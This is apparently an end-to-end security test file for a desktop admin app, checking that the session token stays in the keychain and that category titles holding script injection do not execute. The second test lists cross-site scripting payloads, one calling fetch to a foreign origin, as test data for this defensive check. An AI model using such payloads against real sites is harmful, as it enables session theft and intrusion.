import { adminCredentials } from '../../fixtures/admin/admin-test.ts'
import { createAdminApiClient } from '../../fixtures/api-clients.ts'
import { evaluateAsPageScript, expect, test } from '../../fixtures/hostile/hostile-page-test.ts'
import {
  findFilesContainingText,
  READ_PAGE_STORAGE_EXPRESSION,
  readDesktopLoginResponse,
  SESSION_TOKEN_FIRST_PART,
} from '../../fixtures/hostile/token-leaks.ts'
import { LoginPage } from '../../pages/login-page.ts'

test('the session token is in the keychain, in no file and nowhere in the page', async ({
  launch,
  person,
  product,
}) => {
  const app = await launch({ server: product.origin })
  const page = app.page()
  const login = new LoginPage(page)
  await expect(login.submitButton).toBeVisible()
  const answer = await readDesktopLoginResponse(page)
  expect(answer).toContain(adminCredentials.email)
  expect(answer).not.toMatch(/eyJ[\w-]+\.|token/i)

  await login.signIn(adminCredentials)
  await expect(page.getByRole('navigation', { name: 'Разделы' })).toBeVisible()
  expect(String(await evaluateAsPageScript(page, READ_PAGE_STORAGE_EXPRESSION))).not.toContain(
    SESSION_TOKEN_FIRST_PART,
  )
  await app.kill()
  expect(findFilesContainingText(person.userData, SESSION_TOKEN_FIRST_PART)).toEqual([])
  expect(person.readToken(product.origin)?.startsWith(SESSION_TOKEN_FIRST_PART)).toBe(true)
})

test('a script in a category title does not run and reaches no token', async ({
  signedIn: { app, page },
  product,
  foreignOrigin,
}) => {
  const colleague = createAdminApiClient(product.origin)
  const titles = [
    `<img src=x onerror="fetch('${foreignOrigin.origin}/'+1);window.hacked=1">`,
    '<script>window.hacked=1</script>',
    `"><svg onload="window.hacked=1">`,
    'javascript:window.hacked=1',
  ]
  const made = await Promise.all(titles.map((title) => colleague.category.create({ body: { title } })))
  await app.open('/admin/categories')
  for (const title of titles) await expect(page.getByText(title, { exact: true })).toBeVisible()
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  expect(foreignOrigin.receivedRequests).toEqual([])
  for (const { id } of made.map((each) => ('value' in each ? each.value : each))) {
    await colleague.category.remove({ params: { id } })
  }
})
